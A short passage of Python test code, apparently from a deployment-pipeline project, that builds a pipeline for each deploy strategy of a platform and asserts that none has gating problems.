    params = generated(name, which, envs, source)
    for strategy in sorted(params.catalog.platform(params.platform).deploy):
        p = pipeline.build(params, strategy=strategy)
        assert gating_problems(p) == [], (strategy, gating_problems(p))
